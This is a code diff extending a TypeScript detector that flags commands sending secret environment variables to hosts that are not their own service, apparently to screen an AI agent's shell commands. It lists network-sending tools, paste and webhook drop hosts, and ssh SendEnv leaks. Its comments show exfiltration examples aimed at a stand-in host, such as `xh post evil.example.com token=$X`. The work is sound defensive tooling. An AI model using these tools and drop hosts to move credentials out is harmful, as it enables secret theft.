@@ -1,13 +1,33 @@
 import { providerIn } from '../../credentials/contentRules';
 import type { CodeSnippet, Finding, Invocation, Target } from '../../policy/types';
-import { isSecretVariableName, positionals } from './huntCommon';
+import { isSecretVariableName, positionals, secretRoleOf } from './huntCommon';
 
 // ---------------------------------------------------------------------------------------------
 // Secrets sent to a host that is not their own service
 
+const DATABASE_CLIENTS = ['psql', 'mysql', 'mariadb', 'mongosh', 'mongo', 'redis-cli', 'valkey-cli', 'sqlcmd', 'clickhouse-client', 'cqlsh'];
+const REGISTRY_LOGINS = ['docker', 'podman', 'buildah', 'skopeo', 'helm', 'oras', 'crane', 'nerdctl', 'regctl'];
 const NETWORK_SENDERS = new Set(['curl', 'wget', 'http', 'https', 'xh', 'xhs', 'httpie', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'dig', 'nslookup', 'host', 'drill', 'ping',
   // Programs that fetch from a URL they are given: the URL (its user-info, path or query) goes to that host.
-  'git', 'npm', 'pnpm', 'yarn', 'bun', 'pip', 'pip3', 'uv', 'pipx', 'gem', 'go', 'cargo', 'composer', 'svn', 'hg', 'aria2c', 'lynx', 'w3m']);
+  'git', 'npm', 'pnpm', 'yarn', 'bun', 'pip', 'pip3', 'uv', 'pipx', 'gem', 'go', 'cargo', 'composer', 'svn', 'hg', 'aria2c', 'lynx', 'w3m',
+  // HTTP, gRPC and WebSocket clients whose request items, headers or messages carry what they are given.
+  'wget2', 'curlie', 'restish', 'grpcurl', 'websocat', 'wscat', 'hurl',
+  // Message buses, mailers and notifiers: the message goes to the broker or server named.
+  'mosquitto_pub', 'nats', 'swaks', 'apprise', 'ntfy', 'kcat', 'kafkacat',
+  // A remote shell and database clients: a value in their words goes to the host they connect to.
+  'ssh', ...DATABASE_CLIENTS,
+  // Registry logins: the password or token goes to the registry host named (`docker login host --password-stdin <<< "$T"`).
+  ...REGISTRY_LOGINS]);
+
+/** HTTPie-style clients: `http [METHOD] host item…`, the host a bare word. */
+const ITEM_CLIENTS = new Set(['http', 'https', 'xh', 'xhs', 'curlie', 'restish', 'grpcurl', 'ssh', 'websocat', 'wscat']);
+/** Options naming the host a client connects to (`psql -h`, `mosquitto_pub -h`, `nats -s`, `swaks --server`). */
+const HOST_OPTIONS = new Set(['-h', '--host', '-s', '--server', '-H', '--to', '-b', '--broker', '--brokers']);
+const HOST_SHAPE = /^(?:[^@\s/'"$]+@)?((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)(?::\d+)?$/i;
+/** A loopback host: the developer's own machine. */
+const LOOPBACK = /^(localhost|127(?:\.\d{1,3}){3}|\[::1\]|::1|0\.0\.0\.0|[a-z0-9-]+\.localhost|host\.docker\.internal)$/i;
+/** Hosts that serve a database over HTTP (Neon's SQL endpoint, Upstash's REST, Turso's pipeline): a connection secret belongs there. */
+const DATABASE_HTTP_HOST = /(^|\.)(neon\.tech|supabase\.(co|com)|upstash\.io|turso\.io|planetscale\.com|psdb\.cloud|xata\.sh|cockroachlabs\.cloud|mongodb\.net|mongodb-api\.com|redis-cloud\.com|redislabs\.com)$/i;
 
 /** Hosts whose purpose is to receive and show what is sent: paste sites, request bins, chat webhooks, tunnels. */
 const DROP_HOSTS = /(^|\.)(webhook\.site|requestbin\.[a-z.]+|pipedream\.net|paste\.rs|pastebin\.[a-z.]+|hastebin\.[a-z.]+|termbin\.com|0x0\.st|transfer\.sh|ntfy\.sh|discord(app)?\.com|api\.telegram\.org|hooks\.slack\.com|ngrok(-free)?\.(io|app|dev)|interact\.sh|oast\.[a-z]+|burpcollaborator\.net|requestcatcher\.com|beeceptor\.com|free\.beeceptor\.com|postb\.in|ix\.io|sprunge\.us|dpaste\.[a-z]+|file\.io|catbox\.moe|gist\.githubusercontent\.com)$/i;
@@ -22,7 +42,8 @@ function destinationsOf(inv: Invocation): Destination[] {
   const out: Destination[] = [];
   for (const a of inv.args) {
     // The user-info (`user:password@`) may hold a colon; the host follows its `@`.
-    const m = /^['"]?(?:https?|wss?|ftp|telnet):\/\/([^/?#@\s'"]*@)?(\[[^\]]+\]|[^/:?#\s'"]+)/i.exec(a.raw) ?? /^(?:https?|wss?):\/\/([^/?#@\s]*@)?(\[[^\]]+\]|[^/:?#\s]+)/i.exec(a.text);
+    // Any scheme: `mongodb://`, `nats://`, `mqtt://`, `tgram://` name the receiving host as `https://` does.
+    const m = /^['"]?(?:https?|wss?|ftp|telnet|[a-z][a-z0-9+.-]{1,15}):\/\/([^/?#@\s'"]*@)?(\[[^\]]+\]|[^/:?#\s'"]+)/i.exec(a.raw) ?? /^(?:https?|wss?):\/\/([^/?#@\s]*@)?(\[[^\]]+\]|[^/:?#\s]+)/i.exec(a.text);
     if (m) {
       const host = m[2] ?? '';
       const variable = /^\$\{?([A-Za-z_][A-Za-z0-9_]*)/.exec(host)?.[1];
@@ -32,6 +53,30 @@ function destinationsOf(inv: Invocation): Destination[] {
     const bare = /^"?\$\{?([A-Za-z_][A-Za-z0-9_]*_(URL|URI|ENDPOINT|HOOK|WEBHOOK))\}?"?$/.exec(a.raw);
     if (bare) out.push({ host: undefined, variable: bare[1] });
   }
+  // A host option's value (`-h evil.example.com`, `--to a@evil.example.com`), or the first bare word shaped
+  // like a host of an HTTPie-style client or ssh (`xh post evil.example.com token=$X`).
+  for (let i = 0; i < inv.args.length; i++) {
+    const t = (inv.args[i] as (typeof inv.args)[number]).text;
+    const eq = /^(--[a-z-]+)=(.*)$/.exec(t);
+    const value = HOST_OPTIONS.has(t) ? inv.args[i + 1]?.text : eq && HOST_OPTIONS.has(eq[1] ?? '') ? eq[2] : undefined;
+    const host = value !== undefined ? HOST_SHAPE.exec(value)?.[1] : undefined;
+    if (host) out.push({ host: host.toLowerCase() });
+  }
+  if (out.length === 0 && ITEM_CLIENTS.has(inv.name)) {
+    const host = positionals(inv.args).map((p) => HOST_SHAPE.exec(p)?.[1]).find((h) => h !== undefined);
+    if (host) out.push({ host: host.toLowerCase() });
+  }
+  // A registry login's host operand; npm's per-registry setting (`//host/:_authToken`), sent to that host by every later install.
+  if (out.length === 0 && REGISTRY_LOGINS.includes(inv.name) && positionals(inv.args).includes('login')) {
+    const host = positionals(inv.args).map((p) => HOST_SHAPE.exec(p)?.[1]).find((h) => h !== undefined);
+    if (host) out.push({ host: host.toLowerCase() });
+  }
+  for (const a of inv.args) {
+    const npmKey = /^['"]?\/\/([a-z0-9.-]+\.[a-z]{2,}|localhost|[\d.]+)(?::\d+)?\//i.exec(a.text);
+    if (npmKey?.[1]) out.push({ host: npmKey[1].toLowerCase() });
+  }
+  // ntfy publishes a bare topic to its public server (ntfy.sh) unless given a URL.
+  if (out.length === 0 && inv.name === 'ntfy') out.push({ host: 'ntfy.sh' });
   if (out.length === 0 && ['nc', 'ncat', 'netcat', 'socat', 'telnet'].includes(inv.name)) {
     const host = positionals(inv.args)[0];
     if (host) out.push({ host: host.toLowerCase() });
@@ -63,21 +108,36 @@ function secretVariablesSent(inv: Invocation): string[] {
   return out;
 }
 
-/** Is `host` the service the variable belongs to (GITHUB_TOKEN and api.github.com)? Undefined when the variable names no service. */
-function belongsTo(variable: string, destination: Destination): boolean | undefined {
+/**
+ * Is `host` the service the variable belongs to (GITHUB_TOKEN and api.github.com)? Undefined when the
+ * variable names no owner. An application's signing key belongs to no host but this machine; a database's
+ * connection secret to a database, not to an HTTP or message host (unless that host serves the database).
+ */
+function belongsTo(variable: string, destination: Destination, sender?: string): boolean | undefined {
+  const role = secretRoleOf(variable);
+  const host = destination.host;
+  if (role === 'application' || role === 'database') {
+    if (host !== undefined && LOOPBACK.test(host)) return true;
+    if (role === 'database' && sender !== undefined && DATABASE_CLIENTS.includes(sender)) return undefined;
+    if (host === undefined) return destination.variable !== undefined && secretRoleOf(destination.variable) === 'database' && role === 'database' ? true : undefined;
+    if (role === 'database' && DATABASE_HTTP_HOST.test(host)) return true;
+    return false;
+  }
   const service = providerIn(variable);
   if (!service) return undefined;
   if (destination.variable !== undefined) {
     const where = providerIn(destination.variable);
     return where === undefined ? undefined : where.id === service.id;
   }
-  const host = destination.host ?? '';
-  const owner = domainOwner(host);
+  const owner = domainOwner(host ?? '');
   // `api.github.com.evil.io` is evil.io's, `api-github.com` a look-alike's: only the name a domain is registered under counts, whole.
-  const hostService = owner !== undefined && !/[-_]/.test(owner) ? providerIn(owner) : undefined;
+  const hostService = owner !== undefined && !/[-_]/.test(owner) ? providerIn(SERVICE_DOMAINS[owner] ?? owner) : undefined;
   if (hostService) return hostService.id === service.id;
   return false;
 }
+
+/** Domains a service serves under another name (its container registry, its raw-content host). */
+const SERVICE_DOMAINS: Record<string, string> = { ghcr: 'github', githubusercontent: 'github', gcr: 'google', azurecr: 'azure', amazonaws: 'aws' };
 
 /** Second-level labels under which a country code sells names (`example.co.uk`). */
 const PUBLIC_SECOND_LEVEL = new Set(['co', 'com', 'net', 'org', 'gov', 'ac', 'edu', 'or', 'ne', 'go']);
@@ -92,15 +152,32 @@ export function domainOwner(host: string): string | undefined {
   return second;
 }
 
+/** `ssh -o SendEnv='*' host`: every variable of this environment offered to the host (a server of the agent's choosing accepts them). */
+function sshSendsEnvironment(inv: Invocation): Finding[] {
+  const options = inv.args.map((a, i) => (a.text === '-o' ? inv.args[i + 1]?.text ?? '' : a.text.startsWith('-o') ? a.text.slice(2) : '')).filter((o) => o !== '');
+  if (!options.some((o) => /^SendEnv\s*[= ]\s*(.*\s)?['"]?[A-Za-z_]*\*/i.test(o))) return [];
+  const host = destinationsOf(inv).map((d) => d.host).find((h) => h !== undefined && !LOOPBACK.test(h));
+  if (host === undefined) return [];
+  return [{
+    rule: 'credentials.sent-out',
+    risk: 'credential-dump',
+    severity: 'ask',
+    reason: `ssh offers every environment variable matching its SendEnv pattern (the secret ones too) to ${host}.`,
+    targets: [sentVariable('* (SendEnv)', host)],
+  }];
+}
+
 export function checkSentOut(inv: Invocation): Finding[] {
   if (!NETWORK_SENDERS.has(inv.name)) return [];
+  if (REGISTRY_LOGINS.includes(inv.name) && !positionals(inv.args).includes('login')) return [];
+  if (inv.name === 'ssh') { const whole = sshSendsEnvironment(inv); if (whole.length > 0) return whole; }
   const variables = secretVariablesSent(inv);
   if (variables.length === 0) return [];
   const destinations = destinationsOf(inv);
   const findings: Finding[] = [];
   for (const variable of variables) {
     for (const d of destinations) {
-      const own = belongsTo(variable, d);
+      const own = belongsTo(variable, d, inv.name);
       const drop = d.host !== undefined && DROP_HOSTS.test(d.host);
       if (own === true && !drop) continue;
       if (own === undefined && !drop) continue;
